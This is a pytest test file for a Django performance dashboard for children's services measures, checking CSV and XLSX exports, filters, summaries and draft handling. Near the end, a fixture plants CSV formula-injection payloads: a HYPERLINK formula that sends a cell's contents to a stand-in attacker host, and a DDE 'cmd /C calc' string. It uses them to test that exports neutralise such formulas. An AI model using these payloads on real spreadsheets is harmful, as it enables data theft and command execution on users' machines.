"""The dashboard and its exports, with Lincolnshire's demo figures."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from measures.models import Actual, Measure, State
from measures.pages.exports import COLUMNS

# Also run on SQLite, the embedded database of make demo (make test's second run).
pytestmark = [pytest.mark.django_db, pytest.mark.sqlite]

Q1_REPORT = [
    "FTE-YJ",
    "REOFFEND-YJ",
    "LAC-RATE",
    "CP-PLANS",
    "ADOPT-DAYS-ENTER",
    "ADOPT-DAYS-MATCH",
    "LAC-16-17-LEARN",
    "CL-SUITABLE-ACCOM",
]

# DOMAIN.md's resolved verdicts: (status, direction against the previous figure).
RESOLVED = {
    "2017/18 Q1": {
        "FTE-YJ": ("Not achieved", "Worsening"),
        "REOFFEND-YJ": ("Achieved", "Improving"),
        "LAC-RATE": ("Not achieved", "Worsening"),
        "CP-PLANS": ("Achieved", "Improving"),
        "ADOPT-DAYS-ENTER": ("Achieved", "Improving"),
        "ADOPT-DAYS-MATCH": ("Achieved", "Improving"),
        "LAC-16-17-LEARN": ("Achieved", ""),
        "CL-SUITABLE-ACCOM": ("No data", ""),
    },
    "2016/17 Q4": {
        "FTE-YJ": ("Not achieved", "Worsening"),
        "REOFFEND-YJ": ("Achieved", ""),
        "LAC-RATE": ("Not achieved", ""),
        "CP-PLANS": ("Not achieved", "Worsening"),
        "ADOPT-DAYS-ENTER": ("Achieved", ""),
        "ADOPT-DAYS-MATCH": ("Achieved", ""),
        "CL-SUITABLE-ACCOM": ("Achieved", ""),
        "YJ-VICTIM-ENGAGE": ("Achieved", ""),
        "KS4-DISADV-GAP": ("Not achieved", ""),
        "LAC-16-18-LEARN": ("Not achieved", ""),
        "EYFS-GLD": ("Achieved", ""),
        "EYFS-GAP": ("Not achieved", ""),
        "KS4-EM": ("Within tolerance", ""),
        "PERM-EXCL-RATE": ("Not achieved", ""),
    },
}


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_dashboard_defaults_to_the_latest_published_quarter(client: Client, demo) -> None:
    page = client.get("/").content.decode()
    assert "2017/18 Q1 report" in page
    assert "Summary: 8 measures" in page


def test_the_q1_report_lists_the_papers_eight_measures_in_order(client: Client, demo) -> None:
    rows = csv_rows(client.get("/dashboard.csv").content.decode())
    assert [row["measure"] for row in rows] == Q1_REPORT


@pytest.mark.parametrize("period", ["2017/18 Q1", "2016/17 Q4"])
def test_csv_statuses_and_directions_are_the_papers(client: Client, demo, period) -> None:
    rows = csv_rows(client.get("/dashboard.csv", {"period": period}).content.decode())
    found = {row["measure"]: (row["status"], row["direction"]) for row in rows}
    assert found == RESOLVED[period]


def test_csv_has_the_agreed_columns_and_plain_numbers(client: Client, demo) -> None:
    response = client.get("/dashboard.csv", {"period": "2017/18 Q1"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="dashboard-2017-18-Q1.csv"' in response["Content-Disposition"]
    text = response.content.decode("utf-8")
    assert text.splitlines()[0] == ",".join(COLUMNS)
    rows = {row["measure"]: row for row in csv_rows(text)}
    assert rows["LAC-RATE"] == {
        "measure": "LAC-RATE",
        "title": "Looked after children",
        "period": "2017/18 Q1",
        "covers": "As at 30 June 2017",
        "actual": "48.7",
        "unit": "rate_per_10000",
        "target": "45.0",
        "band_low": "43.0",
        "band_high": "47.0",
        "status": "Not achieved",
        "direction": "Worsening",
        "direction_last_year": "",
        "forecast": "",
        "forecast_status": "",
    }
    assert rows["REOFFEND-YJ"]["band_low"] == "" and rows["REOFFEND-YJ"]["band_high"] == ""
    assert rows["FTE-YJ"]["covers"] == "January 2016 to December 2016"
    assert rows["CL-SUITABLE-ACCOM"]["actual"] == ""


def test_command_prints_the_same_csv_as_the_download(client: Client, demo, capsys) -> None:
    call_command("export_dashboard", "--period", "2016/17 Q4")
    printed = capsys.readouterr().out
    assert printed == client.get("/dashboard.csv", {"period": "2016/17 Q4"}).content.decode()
    call_command("export_dashboard")
    assert capsys.readouterr().out.count("\n") == 1 + len(Q1_REPORT)


def test_xlsx_has_the_same_rows_as_the_csv(client: Client, demo) -> None:
    response = client.get("/dashboard.xlsx", {"period": "2017/18 Q1"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == COLUMNS
    assert [row[0] for row in values[1:]] == Q1_REPORT


def test_filtering_to_not_achieved_shows_only_those_rows(client: Client, demo) -> None:
    rows = csv_rows(client.get("/dashboard.csv", {"status": "rag-red"}).content.decode())
    assert [row["measure"] for row in rows] == ["FTE-YJ", "LAC-RATE"]
    page = client.get("/", {"status": "rag-red"}).content.decode()
    assert "Summary: 2 measures" in page
    assert "Juvenile re-offending" not in page.split("Measures table")[1]


def test_filtering_by_ambition_outcome_and_owner(client: Client, demo) -> None:
    lac = Measure.objects.get(reference="LAC-RATE")
    by_outcome = csv_rows(
        client.get("/dashboard.csv", {"outcome": lac.outcome_id}).content.decode()
    )
    assert "LAC-RATE" in [r["measure"] for r in by_outcome]
    assert "FTE-YJ" not in [r["measure"] for r in by_outcome]
    by_owner = csv_rows(
        client.get(
            "/dashboard.csv", {"owner": demo["lead"].pk, "period": "2016/17 Q4"}
        ).content.decode()
    )
    assert {r["measure"] for r in by_owner} == {
        m.reference for m in Measure.objects.filter(frequency="annual")
    }


def test_latest_position_shows_annual_measures_at_their_last_report(client: Client, demo) -> None:
    rows = csv_rows(client.get("/dashboard.csv", {"view": "latest"}).content.decode())
    periods = {row["measure"]: row["period"] for row in rows}
    assert len(periods) == 15
    assert periods["KS4-EM"] == "2016/17 Q4" and periods["LAC-RATE"] == "2017/18 Q1"
    page = client.get("/", {"view": "latest"}).content.decode()
    assert "Reported in 2016/17 Q4" in page


def test_the_summary_counts_statuses_and_names_changes(client: Client, demo) -> None:
    response = client.get("/")
    page = response.content.decode()
    assert "Children who are subject to a child protection plan</a>: Not achieved to" in page
    counts = response.context["counts"]
    assert {status.label: n for status, n in counts} == {
        "Exceeded": 0,
        "Achieved": 5,
        "Within tolerance": 0,
        "Not achieved": 2,
        "No data": 1,
        "Not rated": 0,
    }


def test_sorting_by_status_drops_the_group_headings(client: Client, demo) -> None:
    grouped = client.get("/").content.decode()
    assert "Communities are safe and protected: Children are safe and healthy" in grouped
    page = client.get("/", {"sort": "status"}).content.decode()
    assert "group-heading" not in page
    table = page.split("Measures table")[1]
    assert table.index("Juvenile re-offending") < table.index("Looked after children")


def test_a_year_end_forecast_is_shown_with_its_status(client: Client, demo) -> None:
    Actual.objects.filter(measure__reference="LAC-RATE", year=2017, quarter=1).update(
        forecast=Decimal("46")
    )
    row = next(
        r
        for r in csv_rows(client.get("/dashboard.csv").content.decode())
        if r["measure"] == "LAC-RATE"
    )
    assert (row["forecast"], row["forecast_status"]) == ("46.0", "Achieved")
    assert "46.0 per 10,000" in client.get("/").content.decode()


def test_drafts_are_shown_only_to_their_officer_and_never_exported(
    client: Client, demo, make_user
) -> None:
    Actual.objects.create(
        measure=Measure.objects.get(reference="LAC-RATE"),
        year=2017,
        quarter=2,
        value=Decimal("46.9"),
        state=State.DRAFT,
    )
    query = {"period": "2017/18 Q2"}
    assert "46.9" not in client.get("/", query).content.decode()
    client.force_login(make_user(username="cllr", role=None))
    assert "46.9" not in client.get("/", query).content.decode()
    client.force_login(demo["officer"])
    page = client.get("/", query).content.decode()
    assert "46.9 per 10,000" in page and "Draft – not published" in page
    exported = client.get("/dashboard.csv", query).content.decode()
    assert "46.9" not in exported


def test_a_bad_period_is_explained_and_the_latest_quarter_shown(client: Client, demo) -> None:
    page = client.get("/", {"period": "2017 Q9"}).content.decode()
    assert "2017 Q9" in page and "Showing the latest quarter." in page
    assert "2017/18 Q1 report" in page
    assert client.get("/dashboard.csv", {"period": "2017 Q9"}).status_code == 404


def test_an_empty_dashboard_says_nothing_is_published(client: Client, db) -> None:
    assert "No performance figures have been published yet." in client.get("/").content.decode()


def count_queries(client: Client, path: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(path).status_code == 200
    return len(queries)


def test_dashboard_queries_do_not_grow_with_measures_or_periods(
    client: Client, make_measure, make_target, make_actual
) -> None:
    def add(count: int, start: int) -> None:
        for i in range(start, start + count):
            measure = make_measure(f"M-{i}", title=f"Measure {i}")
            for year in (2016, 2017):
                make_target(measure, year=year)
            for period in ("2016/17 Q3", "2016/17 Q4", "2017/18 Q1"):
                make_actual(measure, period=period, state=State.PUBLISHED)

    add(10, 0)
    small = [count_queries(client, p) for p in ("/", "/dashboard.csv", "/?view=latest")]
    add(90, 10)
    large = [count_queries(client, p) for p in ("/", "/dashboard.csv", "/?view=latest")]
    assert small == large
    assert "Summary: 100 measures" in client.get("/").content.decode()


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def hostile(demo) -> None:
    """A title and a covers label a spreadsheet would run, and a genuine negative figure."""
    Measure.objects.filter(reference="LAC-RATE").update(title=HYPERLINK)
    q1 = Actual.objects.filter(year=2017, quarter=1)
    q1.filter(measure__reference="CP-PLANS").update(covers_label="@SUM(1+1)*cmd|' /C calc'!A0")
    q1.filter(measure__reference="FTE-YJ").update(value=Decimal("-4"), covers_label="-2+3")


def test_csv_cells_that_could_run_as_formulas_get_a_quote(client: Client, hostile) -> None:
    rows = {r["measure"]: r for r in csv_rows(client.get("/dashboard.csv").content.decode())}
    assert rows["LAC-RATE"]["title"] == "'" + HYPERLINK
    assert rows["CP-PLANS"]["covers"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["FTE-YJ"]["covers"] == "'-2+3"
    assert rows["FTE-YJ"]["actual"] == "-4"


def test_the_command_neutralises_formulas_as_the_download_does(
    client: Client, hostile, capsys
) -> None:
    call_command("export_dashboard")
    rows = {r["measure"]: r for r in csv_rows(capsys.readouterr().out)}
    assert rows["LAC-RATE"]["title"] == "'" + HYPERLINK
    assert rows["FTE-YJ"]["actual"] == "-4"


def test_xlsx_has_no_formula_and_shows_the_text_as_written(client: Client, hostile) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/dashboard.xlsx").content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_measure = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    title = by_measure["LAC-RATE"][COLUMNS.index("title")]
    assert (title.value, title.data_type) == (HYPERLINK, "s")
    covers = by_measure["CP-PLANS"][COLUMNS.index("covers")]
    assert covers.value == "@SUM(1+1)*cmd|' /C calc'!A0"
    actual = by_measure["FTE-YJ"][COLUMNS.index("actual")]
    assert (actual.value, actual.data_type) == (-4, "n")
    assert by_measure["LAC-RATE"][COLUMNS.index("target")].value == 45


def test_a_measure_without_a_target_is_in_the_quarter_it_has_a_figure_in_as_not_rated(
    client: Client, demo
) -> None:
    # DOMAIN: a measure with no target that has a figure reported in a quarter also appears
    # in that quarter's report, as Not rated. LAC-RATE has no 2018/19 target.
    lac = Measure.objects.get(reference="LAC-RATE")
    assert not lac.targets.filter(year=2018).exists()
    Actual.objects.create(
        measure=lac, year=2018, quarter=1, value=Decimal("47.2"), state=State.PUBLISHED
    )

    response = client.get("/", {"period": "2018/19 Q1"})

    rows = response.context["board"].rows
    assert [row.measure.reference for row in rows] == ["LAC-RATE"]
    assert rows[0].status.label == "Not rated"
    page = response.content.decode()
    assert "47.2 per 10,000" in page and "Not rated" in page
    exported = csv_rows(client.get("/dashboard.csv", {"period": "2018/19 Q1"}).content.decode())
    assert [(r["measure"], r["actual"], r["target"], r["status"]) for r in exported] == [
        ("LAC-RATE", "47.2", "", "Not rated")
    ]
    # A quarter with neither a target nor a figure has nothing to report for it.
    assert client.get("/", {"period": "2018/19 Q2"}).context["board"].rows == []


def test_an_unpublished_figure_puts_a_measure_without_a_target_only_in_its_officers_report(
    client: Client, demo
) -> None:
    lac = Measure.objects.get(reference="LAC-RATE")
    Actual.objects.create(measure=lac, year=2018, quarter=1, value=Decimal("47.2"))

    assert client.get("/", {"period": "2018/19 Q1"}).context["board"].rows == []
    client.force_login(demo["officer"])
    rows = client.get("/", {"period": "2018/19 Q1"}).context["board"].rows
    assert [(row.measure.reference, row.status.label) for row in rows] == [
        ("LAC-RATE", "Not rated")
    ]


def test_a_measure_that_had_no_data_last_quarter_is_listed_as_changed(
    client: Client, make_target, make_actual
) -> None:
    # Due in 2016/17 Q4 (a target that year) without a figure, then achieved in 2017/18 Q1.
    make_target("LAC-RATE", year=2016)
    make_target("LAC-RATE", year=2017)
    make_actual("LAC-RATE", period="2017/18 Q1", value="45", state=State.PUBLISHED)
    page = client.get("/").content.decode()
    assert "Looked after children</a>: No data to <strong>Achieved</strong>" in page


def test_each_status_count_links_to_the_table_filtered_to_that_status(client: Client, demo) -> None:
    page = client.get("/", {"ambition": "", "sort": "title", "status": ""}).content.decode()
    assert (
        '<a class="govuk-link" href="?ambition=&amp;sort=title&amp;status=rag-red">2'
        '<span class="govuk-visually-hidden"> Not achieved</span></a>'
    ) in page
    # A status no measure has is a plain 0, not a link to an empty table.
    assert "status=rag-blue" not in page


def test_the_summary_and_changes_come_before_the_filters(client: Client, demo) -> None:
    page = client.get("/").content.decode()
    assert page.index("Summary: 8 measures") < page.index("Changed status since")
    assert page.index("Changed status since") < page.index("Filter measures")
    # No filter set: the filters are folded away.
    assert '<details class="govuk-details filter-details no-print">' in page


def test_active_filters_are_open_and_listed_as_tags_that_remove_themselves(
    client: Client, demo
) -> None:
    response = client.get("/", {"status": "rag-red", "ambition": "", "period": "2017/18 Q1"})
    page = response.content.decode()
    assert '<details class="govuk-details filter-details no-print" open>' in page
    assert response.context["active_filters"] == [
        ("Status", "Not achieved", "?ambition=&period=2017%2F18+Q1")
    ]
    assert 'href="?ambition=&amp;period=2017%2F18+Q1"' in page
    assert (
        '<span class="govuk-visually-hidden">Remove the filter </span>Status: Not achieved'
    ) in page


def test_directions_on_the_dashboard_say_what_they_mean(client: Client, demo) -> None:
    page = client.get("/").content.decode()
    assert (
        '<span aria-hidden="true">↓ </span>Worsening</span><span class="travel-meaning">: '
        "more first-time offenders than the previous figure (lower is better)</span>"
    ) in page
